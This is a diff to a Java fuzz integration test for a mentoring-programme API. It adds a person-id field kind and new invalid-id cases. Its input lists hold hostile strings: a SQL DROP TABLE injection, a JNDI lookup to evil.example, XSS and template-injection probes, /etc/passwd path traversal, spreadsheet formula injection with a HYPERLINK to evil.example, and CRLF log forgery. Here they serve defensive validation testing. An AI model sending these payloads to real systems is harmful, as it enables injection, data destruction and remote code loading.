@@ -26,6 +26,7 @@ import java.util.Map;
 import java.util.Random;
 import java.util.TreeMap;
 import java.util.function.Function;
+import java.util.stream.Stream;
 
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
@@ -82,7 +83,7 @@ class ApiFuzzIT {
     // ----------------------------------------------------------------------------------------------
     // What the endpoints accept: each field's kind, whether it is required, and a valid template.
 
-    enum Kind { ID, TEXT, PROGRAMME, LANGUAGE, DATE_PAST, DATE_BUSINESS, DATE_PLANNED, INT, BOOL, ENUM, TEXT_LIST, GOALS, OBJECT }
+    enum Kind { ID, PERSON_ID, TEXT, PROGRAMME, LANGUAGE, DATE_PAST, DATE_BUSINESS, DATE_PLANNED, INT, BOOL, ENUM, TEXT_LIST, GOALS, OBJECT }
 
     record Field(String path, Kind kind, boolean required, boolean notBlank, int max, List<String> values) {
 
@@ -145,9 +146,9 @@ class ApiFuzzIT {
                     {"relationshipId":"fz-new-%d","programmeId":"womento-2025","mentor":{"id":"p-1","name":"Maija Virtanen"},
                      "mentee":{"id":"p-2","name":"Amina Yusuf"},"language":"fi","startedOn":"%s"}""".formatted(n, STARTED_ON)),
                     List.of(Field.of("relationshipId", Kind.ID, false), Field.of("programmeId", Kind.PROGRAMME, false),
-                            Field.of("mentor", Kind.OBJECT, true), Field.text("mentor/id", 200, true, true),
+                            Field.of("mentor", Kind.OBJECT, true), Field.of("mentor/id", Kind.PERSON_ID, true),
                             Field.text("mentor/name", 200, true, true), Field.of("mentee", Kind.OBJECT, true),
-                            Field.text("mentee/id", 200, true, true), Field.text("mentee/name", 200, true, true),
+                            Field.of("mentee/id", Kind.PERSON_ID, true), Field.text("mentee/name", 200, true, true),
                             Field.of("language", Kind.LANGUAGE, true), Field.of("startedOn", Kind.DATE_PAST, false))),
             new Endpoint("agree", Target.STARTED, "/agree", false,
                     n -> json(agreement("{\"goalId\":\"g1\",\"description\":\"First job\",\"milestones\":[\"CV\"]}")),
@@ -354,11 +355,18 @@ class ApiFuzzIT {
             "'; DROP TABLE domain_event_entry; --", "\" OR 1=1 --", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}",
             "<script>alert(1)</script>", "%s%n%x", "../../../../etc/passwd", "\u0000nul\u0000", "\u202Eevil\u202C",
             "Ääkkösiä ja åäö", "👩‍💼🤝👨‍🎓", "\r\nX-Injected: 1", "null", "true", "[]", "{}", "\\u0000",
-            "ｆｕｌｌｗｉｄｔｈ", "Z̸̢͎a̵l̶g̷o̴", "\uFEFFbom", "tab\tbell\u0007\b\f");
+            "ｆｕｌｌｗｉｄｔｈ", "Z̸̢͎a̵l̶g̷o̴", "\uFEFFbom", "tab\tbell\u0007\b\f",
+            // Text that looks like sealed personal data, in the first stored form and today's.
+            "pd1:", "pd1:x:y", "pd1:00000000-0000-0000-0000-000000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
+            "pd2", "{\"sealed\":\"pd2\",\"keys\":[\"00000000-0000-0000-0000-000000000000\"],\"data\":\"AAAA\"}",
+            "{\"sealed\":\"pd1\"}");
     static final List<String> UNKNOWN_FIELDS = List.of("admin", "version", "stage", "__proto__", "constructor", "$where",
             "relationshipID", "meeting_id", "heldon", "@class", "eventIdentifier", "sequenceNumber", "x".repeat(300), "ä", "");
     static final List<String> BAD_IDS = List.of("a b", "ä", "x".repeat(101), "a/b", "a%2Fb", "<script>", "'--", "%00",
             "a\u0000b", "..", "a;b", "a?b", "a#b", "{id}", "\u202E", "*", "a\\b", " ");
+    /** Ids a spreadsheet would run as a formula or a log would split: refused when an id is recorded. */
+    static final List<String> BAD_NEW_IDS = List.of("=1+1", "=HYPERLINK(\"http://evil.example\")", "+1", "-1", "@SUM(A1)",
+            "a\r\nINFO forged", "\tx", "a\u0085b", "a\u2028b", "_x", ".x", ":x");
     static final List<String> BAD_DATES = List.of("2025-02-30", "2025-13-01", "2025-00-10", "20250101", "01.02.2025",
             "2025/01/01", "today", "", " ", "2025-1-1", "2025-01-01T10:00:00Z", "2025-01-01T00:00", "１２３４-01-01", "NaN");
     static final List<String> BAD_IF_MATCH = List.of("abc", "-1", "1.5", "\"\"", "W/", "99999999999999999999", "\"1\", \"2\"",
@@ -671,7 +679,7 @@ class ApiFuzzIT {
 
     static JsonNode wrongType(Random random, Field field) {
         List<JsonNode> wrong = switch (field.kind()) {
-            case ID, TEXT, PROGRAMME, LANGUAGE, DATE_PAST, DATE_BUSINESS, DATE_PLANNED ->
+            case ID, PERSON_ID, TEXT, PROGRAMME, LANGUAGE, DATE_PAST, DATE_BUSINESS, DATE_PLANNED ->
                     List.of(NODES.objectNode(), NODES.arrayNode(), NODES.arrayNode().add("x"), NODES.objectNode().put("value", "x"));
             case INT -> List.of(NODES.textNode("5"), NODES.booleanNode(true), NODES.numberNode(4.5), NODES.objectNode(),
                     NODES.arrayNode().add(3), NODES.numberNode(1e3), NODES.textNode(""));
@@ -689,7 +697,9 @@ class ApiFuzzIT {
     static JsonNode invalidValue(Random random, Field field) {
         List<JsonNode> invalid = new ArrayList<>();
         switch (field.kind()) {
-            case ID -> BAD_IDS.stream().map(NODES::textNode).forEach(invalid::add);
+            case ID -> Stream.concat(BAD_IDS.stream(), BAD_NEW_IDS.stream()).map(NODES::textNode).forEach(invalid::add);
+            case PERSON_ID -> Stream.concat(Stream.of("", " ", "a b", "x".repeat(201), "ä"), BAD_NEW_IDS.stream())
+                    .map(NODES::textNode).forEach(invalid::add);
             case TEXT -> {
                 invalid.add(NODES.textNode("x".repeat(field.max() + 1 + random.nextInt(100))));
                 invalid.add(NODES.textNode("ä".repeat(field.max() + 1)));
@@ -698,7 +708,8 @@ class ApiFuzzIT {
                     List.of("", " ", "\t\n ", "\u2003", "\u3000\u2028", "\n").forEach(blank -> invalid.add(NODES.textNode(blank)));
                 }
             }
-            case PROGRAMME -> List.of("", " ", " leading space", "\tx", "\u3000", "x".repeat(201)).forEach(v -> invalid.add(NODES.textNode(v)));
+            case PROGRAMME -> Stream.concat(Stream.of("", " ", " leading space", "\tx", "\u3000", "x".repeat(201)),
+                    BAD_NEW_IDS.stream()).forEach(v -> invalid.add(NODES.textNode(v)));
             case LANGUAGE -> List.of("", "x", "suomi kieli", "f1", "fi_FI", "x".repeat(36), "-fi", "fi-", "ä", "en--US", "<b>")
                     .forEach(v -> invalid.add(NODES.textNode(v)));
             case DATE_PAST, DATE_BUSINESS, DATE_PLANNED -> {
